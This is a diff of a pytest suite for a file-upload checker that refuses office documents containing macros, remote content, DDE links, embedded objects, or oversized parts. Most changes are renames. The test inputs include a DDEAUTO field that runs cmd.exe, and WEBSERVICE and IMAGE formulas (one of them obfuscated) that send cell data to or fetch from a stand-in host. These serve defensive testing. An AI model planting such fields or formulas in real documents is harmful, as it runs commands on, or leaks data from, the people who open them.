@@ -1,4 +1,4 @@
-"""Office documents that would run or load something when they are opened are refused, with what to do instead."""
+"""Office documents that would run or load something when opened are refused, with advice."""
 
 import zlib
 from html import escape, unescape
@@ -9,7 +9,7 @@ import pytest
 
 from files.documents import markup, office
 from files.documents.identification import FORMATS, content_type_of
-from files.rejection import Unfit
+from files.rejection import FileRejected
 from tests.factories.files import file_of
 from tests.factories.packages import (
     MAIN,
@@ -63,7 +63,7 @@ def result_of(data: bytes, ending: str) -> str:
     with file_of(data) as file:
         try:
             return content_type_of(file, ending)
-        except Unfit as error:
+        except FileRejected as error:
             return str(error)
 
 
@@ -103,7 +103,7 @@ AWAY = [
 
 
 @pytest.mark.parametrize("address", AWAY)
-def test_an_opendocument_file_whose_picture_is_elsewhere_is_refused(address: str):
+def test_opendocument_file_with_a_remote_picture_is_refused(address: str):
     assert result_of(odt(IMAGE.format(address)), "odt") == ELSEWHERE
 
 
@@ -116,7 +116,7 @@ def test_an_opendocument_file_whose_picture_is_elsewhere_is_refused(address: str
         '<draw:floating-frame xlink:href="https://elsewhere.example/"/>',
     ],
 )
-def test_an_opendocument_file_that_includes_what_is_elsewhere_is_refused(body: str):
+def test_opendocument_file_that_includes_remote_content_is_refused(body: str):
     assert (result_of(odt(body), "odt"), result_of(ods(body), "ods")) == (ELSEWHERE, ELSEWHERE)
 
 
@@ -124,12 +124,12 @@ def test_an_opendocument_file_that_includes_what_is_elsewhere_is_refused(body: s
     "part",
     ["styles.xml", "settings.xml", "Object 1/content.xml", "Object 1/styles.xml", "Object 1/Object 2/Styles.xml"],
 )
-def test_styles_settings_and_sub_objects_are_held_to_the_same_rules(part: str):
+def test_styles_settings_and_sub_objects_are_checked_too(part: str):
     remote = content('<style:background-image xlink:href="http://elsewhere.example/bg.png"/>', "document-styles")
     assert result_of(odt_with(part, remote), "odt") == ELSEWHERE
 
 
-def test_the_template_of_a_sub_object_is_held_to_the_same_rule():
+def test_template_of_a_sub_object_is_checked_too():
     meta = (
         '<m:template xmlns:m="urn:oasis:names:tc:opendocument:xmlns:meta:1.0" xmlns:x="http://www.w3.org/1999/xlink"'
         ' x:href="http://elsewhere.example/t.ott"/>'
@@ -157,7 +157,7 @@ def test_an_opendocument_file_that_runs_scripts_is_refused(body: str):
     "name",
     ["Object 1/Basic/Standard/Module1.xml", "Object 1/Scripts/python/a.py", "Dialogs/dialog-lc.xml", "a/DIALOGS/x.xml"],
 )
-def test_folders_of_scripts_are_found_anywhere_in_the_archive_and_in_its_manifest(name: str):
+def test_script_folders_are_found_in_archive_and_manifest(name: str):
     assert result_of(odt_with(name), "odt") == MACROS
     assert result_of(opendocument("text", name), "odt") == MACROS
 
@@ -178,7 +178,7 @@ def test_an_opendocument_file_that_asks_other_programs_for_data_is_refused(body:
     assert result_of(ods(body), "ods") == DATA
 
 
-def test_what_writers_commonly_put_into_opendocument_files_is_accepted():
+def test_common_opendocument_content_is_accepted():
     body = (
         "<office:scripts/><table:dde-links/>"
         '<text:a xlink:href="https://lab.example/">x</text:a><draw:a xlink:href="../plan.odt">x</draw:a>'
@@ -220,7 +220,7 @@ def field(*pieces: str) -> str:
     return f"{mark('begin')}{instr(*pieces)}{mark('separate')}<w:r><w:t>result</w:t></w:r>{mark('end')}"
 
 
-LOADING = [
+LOADING_FIELDS = [
     "DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe &quot;/k calc&quot;",
     "DDE x y",
     " includepicture &quot;http://elsewhere.example/x.png&quot; \\d",
@@ -230,7 +230,7 @@ LOADING = [
 ]
 
 
-@pytest.mark.parametrize("instruction", LOADING)
+@pytest.mark.parametrize("instruction", LOADING_FIELDS)
 def test_a_field_that_loads_something_is_refused(instruction: str):
     ways = [
         simple(instruction),
@@ -242,12 +242,12 @@ def test_a_field_that_loads_something_is_refused(instruction: str):
     assert [result_of(docx(way), "docx") for way in ways] == [FIELD] * 6
 
 
-def test_a_field_behind_many_spaces_or_inside_the_result_of_another_is_refused():
+def test_hidden_or_nested_field_is_refused():
     inside = f"{mark('begin')}{instr('TOC')}{mark('separate')}{field('DDEAUTO x')}{mark('end')}"
     assert [result_of(docx(body), "docx") for body in (field(" " * 300, "DDE x"), inside)] == [FIELD, FIELD]
 
 
-def test_a_field_whose_name_another_field_works_out_is_refused():
+def test_field_with_a_computed_name_is_refused():
     computed = f"{mark('begin')}{field('QUOTE 68 68 69')}{instr(' x y')}{mark('end')}"
     assert result_of(docx(computed), "docx") == FIELD
 
@@ -259,7 +259,7 @@ def test_a_field_whose_name_another_field_works_out_is_refused():
         {"word__any_bin": "application/xml"},
     ],
 )
-def test_fields_are_found_in_parts_known_by_content_type_or_by_relationship(kinds: dict[str, str]):
+def test_fields_are_found_in_parts_by_content_type_or_relationship(kinds: dict[str, str]):
     parts = office_parts() | {"word/any.bin": word(simple("DDEAUTO x"))}
     parts["[Content_Types].xml"] = content_types(word__document_xml=f"{OOXML}{MAIN['docx'][1]}", **kinds)
     parts["word/_rels/document.xml.rels"] = relationships(("header", "any.bin"))
@@ -291,7 +291,7 @@ def test_a_workbook_that_asks_other_programs_for_data_is_refused(kind: str, body
 
 
 WORKBOOK = "http://schemas.openxmlformats.org/spreadsheetml/2006/main"
-FETCHING = [
+FETCHING_FUNCTIONS = [
     '_xlfn.WEBSERVICE("http://elsewhere.example/?"&amp;A1)',
     '1+web&#83;ervice ("http://elsewhere.example/")',
     '_xlfn.IMAGE("http://elsewhere.example/x.png")',
@@ -305,14 +305,14 @@ def sheet(formula: str) -> str:
 
 
 def xlsx(name: str, part: str, *, kind: str = "worksheet", content_type: str = "") -> bytes:
-    """Return a workbook with one part more, known by its relationship, its content type, or both."""
+    """Return a workbook with one more part, known by its relationship, its content type, or both."""
     main = {"xl__workbook_xml": f"{OOXML}{MAIN['xlsx'][1]}"}
     more = {f"xl__{name.replace('.', '_')}": content_type} if content_type else {}
     parts = office_parts("xlsx") | {f"xl/{name}": part, "[Content_Types].xml": content_types(**main, **more)}
     return archive(parts | {"xl/_rels/workbook.xml.rels": relationships((kind, name))})
 
 
-@pytest.mark.parametrize("formula", FETCHING)
+@pytest.mark.parametrize("formula", FETCHING_FUNCTIONS)
 def test_a_workbook_whose_formula_fetches_something_is_refused(formula: str):
     names = f'<workbook xmlns="{WORKBOOK}"><definedNames><definedName>{formula}</definedName></definedNames></workbook>'
     validation = f'<worksheet xmlns="{WORKBOOK}"><formula1>{formula}</formula1></worksheet>'
@@ -346,7 +346,7 @@ def test_an_ole_object_is_refused_whatever_its_name(name: str):
     assert result_of(holding(inner), "docx") == f"A file inside this document is not accepted. {UNKNOWN}"
 
 
-def test_an_object_of_another_program_is_refused_whatever_it_is_made_of():
+def test_embedded_object_is_refused_whatever_its_format():
     native = archive(office_parts() | {"word/embeddings/x.bin": "x"})
     assert result_of(native, "docx") == accepted_as("docx")
     parts = office_parts() | {"word/embeddings/x.bin": "x"}
@@ -358,7 +358,7 @@ def test_an_object_of_another_program_is_refused_whatever_it_is_made_of():
     ) == (UNKNOWN)
 
 
-def test_an_object_of_another_program_in_an_opendocument_file_is_refused():
+def test_embedded_object_in_an_opendocument_file_is_refused():
     bodies = ['<draw:object-ole xlink:href="./Object 1"/>', "<draw:object-ole><office:binary-data/></draw:object-ole>"]
     assert [result_of(odt(body), "odt") for body in bodies] == [UNKNOWN, UNKNOWN]
 
@@ -380,7 +380,7 @@ def holding(data: bytes, name: str = "word/embeddings/x.docx") -> bytes:
 
 @pytest.mark.parametrize("what", INNER)
 @pytest.mark.parametrize("name", ["word/embeddings/x.docx", "word/media/image1.png"])
-def test_a_document_inside_a_document_is_held_to_the_same_rules_whatever_its_name(what: str, name: str):
+def test_document_inside_a_document_is_checked_whatever_its_name(what: str, name: str):
     data, reason = INNER[what]
     refusal = f"A file inside this document is not accepted. {reason}"
     assert result_of(holding(data, name), "docx") == refusal
@@ -396,19 +396,19 @@ def test_a_document_inside_a_document_is_held_to_the_same_rules_whatever_its_nam
         pytest.param(holding(archive(office_parts())), id="a document in a document in a document"),
     ],
 )
-def test_a_file_inside_a_document_that_cannot_be_checked_is_refused(data: bytes):
+def test_unknown_file_inside_a_document_is_refused(data: bytes):
     assert result_of(holding(data), "docx") == UNKNOWN
 
 
 @pytest.mark.parametrize("ending", ["docx", "xlsx", "pptx"])
-def test_a_good_document_inside_a_document_is_accepted(ending: str):
+def test_valid_document_inside_a_document_is_accepted(ending: str):
     assert result_of(holding(archive(office_parts(ending)), f"word/embeddings/x.{ending}"), "docx") == accepted_as(
         "docx"
     )
 
 
-def test_an_archive_behind_empty_blocks_of_compression_is_found():
-    """The part unpacks to nothing for longer than one piece is read."""
+def test_archive_after_empty_compression_blocks_is_found():
+    """The part unpacks to nothing for longer than one chunk."""
     packer = zlib.compressobj(9, zlib.DEFLATED, -zlib.MAX_WBITS)
     packed = b"\x00\x00\x00\xff\xff" * 20_000 + packer.compress(TEMPLATE) + packer.flush()
     assert result_of(with_packed_part(packed, TEMPLATE), "docx") == (
@@ -435,17 +435,17 @@ def with_packed_part(packed: bytes, unpacked: bytes) -> bytes:
 
 
 @pytest.mark.parametrize(("more", "fine"), [(0, True), (-1, False)])
-def test_documents_inside_a_document_are_so_large_at_most(more: int, fine: bool, monkeypatch: pytest.MonkeyPatch):
+def test_size_of_inner_documents_is_limited(more: int, fine: bool, monkeypatch: pytest.MonkeyPatch):
     inner = archive(office_parts("xlsx"))
-    monkeypatch.setattr(office, "MOST_INNER", 2 * len(inner) + more)
+    monkeypatch.setattr(office, "MAX_INNER_BYTES", 2 * len(inner) + more)
     data = archive(office_parts() | {"a.xlsx": inner, "b.xlsx": inner})
     assert result_of(data, "docx") == (accepted_as("docx") if fine else TOO_MUCH)
 
 
 @pytest.mark.parametrize(("more", "fine"), [(0, True), (-1, False)])
-def test_documents_inside_a_document_unpack_to_so_much_at_most(more: int, fine: bool, monkeypatch: pytest.MonkeyPatch):
+def test_unpacked_size_of_inner_documents_is_limited(more: int, fine: bool, monkeypatch: pytest.MonkeyPatch):
     parts = office_parts("xlsx")
-    monkeypatch.setattr(office, "MOST_UNPACKED", 2 * sum(map(len, parts.values())) + more)
+    monkeypatch.setattr(office, "MAX_UNPACKED_BYTES", 2 * sum(map(len, parts.values())) + more)
     data = archive(office_parts() | {"a.xlsx": archive(parts), "b.xlsx": archive(parts)})
     assert result_of(data, "docx") == (accepted_as("docx") if fine else TOO_MUCH)
 
@@ -467,19 +467,19 @@ MANY = {  # documents, and how many of their elements are read
 
 @pytest.mark.parametrize("more", [0, -1])
 @pytest.mark.parametrize("what", MANY)
-def test_so_many_elements_of_a_document_are_read_at_most(what: str, more: int, monkeypatch: pytest.MonkeyPatch):
+def test_number_of_elements_is_limited(what: str, more: int, monkeypatch: pytest.MonkeyPatch):
     data, ending, count = MANY[what]
-    monkeypatch.setattr(markup, "MOST_ELEMENTS", count + more)
+    monkeypatch.setattr(markup, "MAX_ELEMENTS", count + more)
     assert result_of(data, ending) == (TOO_MUCH if more else accepted_as(ending))
 
 
 @pytest.mark.parametrize(("deep", "fine"), [(248, True), (249, False)])
-def test_content_is_so_deep_at_most(deep: int, fine: bool):
+def test_depth_of_content_is_limited(deep: int, fine: bool):
     result = result_of(odt("<text:p>" * deep + "</text:p>" * deep), "odt")
     assert result.startswith("The content does not match the ending of the file name (ODT)") != fine
     assert (result == accepted_as("odt")) == fine
 
 
-def test_a_tag_longer_than_is_accepted_is_refused():
+def test_too_long_tag_is_refused():
     assert result_of(odt(f'<text:p text:id="{"x" * 1_000_000}"/>'), "odt") == accepted_as("odt")
     assert result_of(odt(f'<text:p text:id="{"x" * 6_000_000}"/>'), "odt") == TOO_MUCH
